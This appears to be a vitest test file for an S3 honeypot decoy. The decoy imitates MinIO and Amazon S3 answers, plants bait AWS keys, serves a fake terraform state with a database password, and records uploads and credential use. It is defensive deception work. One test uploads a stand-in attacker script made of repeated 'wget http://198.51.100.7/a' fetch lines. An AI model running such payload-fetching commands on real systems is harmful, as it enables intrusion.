import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { holdsForAnyBytes, octetsOf, personaWith, talk } from '../../../test/support/talk.ts';
import type { Persona } from '../../core/persona.ts';
import { plantedAwsKey } from '../../wire/planted-credential.ts';
import { s3 } from './s3.ts';
import { s3cmdAt } from '../../../test/support/s3cmd.ts';

const run = promisify(execFile);

const details = {
  region: 'us-east-1',
  buckets: 'pine-assets,pine-backups,pine-state,pine-uploads',
  accessKey: 'minioadmin',
  secretKey: 'minioadmin',
};
const minio = (): Persona => personaWith({ s3: { product: 'MinIO', version: '', details } });
const aws = (): Persona =>
  personaWith({ s3: { product: 'Amazon S3', version: '', details: { ...details, region: 'eu-west-1' } } });

const get = (path: string, host = 'a', method = 'GET'): string =>
  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;

describe('the settings of a bucket that few have', () => {
  const settings = 'publicAccessBlock policyStatus ownershipControls accelerate inventory'.split(' ');

  it('are refused to whoever is not the owner', () => {
    const requests = settings.map((name) => get(`/pine-assets?${name}`)).join('');
    const { facts, text } = talk(s3, aws(), [octetsOf(requests)]);
    expect(text.match(/HTTP\/1\.1 403 /g)?.length).toBe(settings.length);
    expect(text.match(/<Code>AccessDenied<\/Code>/g)?.length).toBe(settings.length);
    expect(facts.flatMap((fact) => (fact.kind === 'object-access' ? [fact.operation] : []))).toEqual([
      'GetPublicAccessBlock',
      'GetBucketPolicyStatus',
      'GetBucketOwnershipControls',
      'GetBucketAccelerate',
      'GetBucketInventory',
    ]);
  });

  needTools(['curl'])('are told to the owner as Amazon and MinIO tell them', async () => {
    const asked = async (persona: Persona, region: string): Promise<string[]> => {
      await using served = await serveDecoy(s3, persona);
      const key = plantedAwsKey(persona, 'instance metadata', '127.0.0.1');
      const answers: string[] = [];
      for (const name of settings) {
        const { stdout } = await run('curl', [
          '-s',
          '-m',
          '10',
          '--aws-sigv4',
          `aws:amz:${region}:s3`,
          '-u',
          `${key.accessKeyId}:${key.secretAccessKey}`,
          `http://127.0.0.1:${served.port}/pine-state?${name}=`,
        ]);
        answers.push(/<Code>(\w+)|<(\w+) xmlns/.exec(stdout)?.slice(1).join('') ?? '');
      }
      return answers;
    };
    expect(await asked(aws(), 'eu-west-1')).toEqual([
      'NoSuchPublicAccessBlockConfiguration',
      expect.stringMatching(/^(?:NoSuchBucketPolicy|PolicyStatus)$/),
      'OwnershipControlsNotFoundError',
      'AccelerateConfiguration',
      'ListInventoryConfigurationsResult',
    ]);
    expect(await asked(minio(), 'us-east-1')).toEqual([
      'NotImplemented',
      'PolicyStatus',
      'NotImplemented',
      'AccelerateConfiguration',
      'NotImplemented',
    ]);
  });
});

describe('the s3 decoy before s3cmd', () => {
  for (const signature of ['v4', 'v2'] as const) {
    needTools(['s3cmd'])(`takes requests that are signed with a planted key (${signature})`, async () => {
      const folder = mkdtempSync(join(tmpdir(), 'picket-s3-'));
      const persona = minio();
      await using served = await serveDecoy(s3, persona);
      const key = plantedAwsKey(persona, 'instance metadata', '127.0.0.1');
      const version = signature === 'v2' ? ['--signature-v2'] : [];
      const s3cmd = (...words: string[]): Promise<string> =>
        s3cmdAt(`127.0.0.1:${served.port}`, key)(...version, ...words);
      try {
        // Each call starts an interpreter: no more of them than show something.
        if (signature === 'v4') expect(await s3cmd('ls')).toContain('s3://pine-state');
        await s3cmd('get', 's3://pine-state/prod/terraform.tfstate', join(folder, 'state'));
        expect(readFileSync(join(folder, 'state'), 'utf8')).toContain('"db_password"');
        writeFileSync(join(folder, 'up'), `#!/bin/sh\n${'wget http://198.51.100.7/a\n'.repeat(10)}`);
        expect(await s3cmd('put', join(folder, 'up'), 's3://pine-backups/an up&load')).toContain('upload:');
        expect(await s3cmd('del', 's3://pine-backups/an up&load')).toContain('delete:');
      } finally {
        rmSync(folder, { recursive: true });
      }
      const operations = served.facts.flatMap((fact) =>
        fact.kind === 'object-access' ? [`${fact.operation} ${fact.status}`] : [],
      );
      expect(operations).toEqual(
        expect.arrayContaining(['GetObject 200', 'PutObject 200', 'DeleteObject 204', 'GetObject 200']),
      );
      expect(served.facts.some((fact) => fact.kind === 'auth' && !fact.accepted)).toBe(false);
      expect(served.facts).toContainEqual(
        expect.objectContaining({
          kind: 'exploit',
          name: 'planted-credential',
          detail: 'AWS access key planted in instance metadata for 127.0.0.1',
        }),
      );
      expect(served.captures[0]?.how).toBe('s3-put');
      expect(served.errors).toEqual([]);
    });
  }

  needTools(['s3cmd'])('refuses a wrong secret and an unknown key in the words of the store', async () => {
    const persona = aws();
    await using served = await serveDecoy(s3, persona);
    const ls = (id: string): Promise<string> =>
      s3cmdAt(`127.0.0.1:${served.port}`, { accessKeyId: id, secretAccessKey: 'wrong' })('ls');
    expect(await ls(plantedAwsKey(persona, 'a web file', '192.0.2.1').accessKeyId)).toContain(
      'SignatureDoesNotMatch',
    );
    expect(await ls('AKIAIOSFODNN7EXAMPLE')).toContain(
      'The AWS Access Key Id you provided does not exist in our records.',
    );
    expect(served.facts.filter((fact) => fact.kind === 'auth').map((fact) => fact.accepted)).not.toContain(
      true,
    );
  });
});

describe('the s3 decoy', () => {
  it('answers an anonymous caller as its store does', () => {
    const { text } = talk(s3, minio(), [
      octetsOf(
        get('/') +
          get('/none') +
          get('/pine-backups/none') +
          get('/pine-state') +
          get('/pine-backups?list-type=2&prefix=config/'),
      ),
    ]);
    expect(text).toContain(
      '<Error><Code>AccessDenied</Code><Message>Access Denied.</Message><Resource>/</Resource><RequestId>',
    );
    expect(text).toContain(
      '<Error><Code>NoSuchBucket</Code><Message>The specified bucket does not exist</Message><BucketName>none</BucketName><Resource>/none</Resource>',
    );
    expect(text).toContain(
      '<Code>NoSuchKey</Code><Message>The specified key does not exist.</Message><Key>none</Key><BucketName>pine-backups</BucketName>',
    );
    expect(text).toContain('<Key>config/.env.production</Key>');
    expect(text).toContain('Server: MinIO\r\n');
  });

  it('knows a bucket by its host, and lists folder by folder', () => {
    const host = 'pine-assets.s3.eu-west-1.amazonaws.com';
    const { text, facts } = talk(s3, aws(), [
      octetsOf(
        get('/?delimiter=/', host) + get('/robots.txt', host) + get('/', 'pine-state.s3.amazonaws.com'),
      ),
    ]);
    expect(text).toContain(
      '<CommonPrefixes><Prefix>css/</Prefix></CommonPrefixes><CommonPrefixes><Prefix>js/</Prefix></CommonPrefixes>',
    );
    expect(text).toContain('User-agent: *\nDisallow: /\n');
    expect(text).toContain('<Code>AccessDenied</Code><Message>Access Denied</Message><RequestId>');
    expect(facts.filter((fact) => fact.kind === 'object-access')).toMatchObject([
      { operation: 'ListObjects', bucket: 'pine-assets', status: 200, principal: '' },
      { operation: 'GetObject', object: 'robots.txt', status: 200 },
      { operation: 'ListObjects', bucket: 'pine-state', status: 403 },
    ]);
  });

  it.each([minio, aws])('tells the length of an object once', (persona) => {
    const { text } = talk(s3, persona(), [octetsOf(get('/pine-assets/robots.txt', 'a', 'HEAD'))]);
    expect(text).toMatch(/^HTTP\/1\.1 200 /);
    expect(text.match(/^content-length: /gim)).toHaveLength(1);
  });

  it('takes what anybody puts into the open bucket, in parts and in signed chunks too', () => {
    const persona = minio();
    const put = (path: string, body: string, more = '', method = 'PUT'): string =>
      `${method} ${path} HTTP/1.1\r\nHost: a\r\n${more}Content-Length: ${body.length}\r\n\r\n${body}`;
    const first = talk(s3, persona, [
      octetsOf(
        put('/pine-uploads/x.sh', '3\r\nabc\r\n0\r\n\r\n', 'Content-Encoding: aws-chunked\r\n') +
          get('/pine-uploads/x.sh') +
          put('/pine-uploads/y?uploads', '', '', 'POST'),
      ),
    ]);
    expect(first.outputs).toContainEqual({
      do: 'capture',
      bytes: octetsOf('abc'),
      how: 's3-put',
      name: 'x.sh',
    });
    const id = /<UploadId>([\w-]+)</.exec(first.text)?.[1] ?? '';
    const rest = `<CompleteMultipartUpload><Part><PartNumber>1</PartNumber></Part><Part><PartNumber>2</PartNumber></Part></CompleteMultipartUpload>`;
    const { text } = talk(s3, persona, [
      octetsOf(
        put(`/pine-uploads/y?partNumber=1&uploadId=${id}`, 'one') +
          put(`/pine-uploads/y?partNumber=2&uploadId=${id}`, 'two') +
          put(`/pine-uploads/y?uploadId=${id}`, rest, '', 'POST') +
          get('/pine-uploads/y'),
      ),
    ]);
    expect(text).toContain('<CompleteMultipartUploadResult');
    expect(text.endsWith('onetwo')).toBe(true);
  });

  it('gives the same for any split of any bytes', () => {
    holdsForAnyBytes(s3, minio, [
      octetsOf(get('/')),
      octetsOf(get('/pine-backups?list-type=2&max-keys=1')),
      octetsOf(get('/pine-assets/css/main.css')),
      octetsOf('PUT /pine-uploads/a HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n\r\nabcd'),
      octetsOf(
        'GET /pine-state HTTP/1.1\r\nHost: a\r\nAuthorization: AWS4-HMAC-SHA256 Credential=minioadmin/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00\r\n\r\n',
      ),
      octetsOf(
        'POST /pine-uploads?delete HTTP/1.1\r\nHost: a\r\nContent-Length: 20\r\n\r\n<Delete><Key>a</Key>',
      ),
    ]);
  });
});
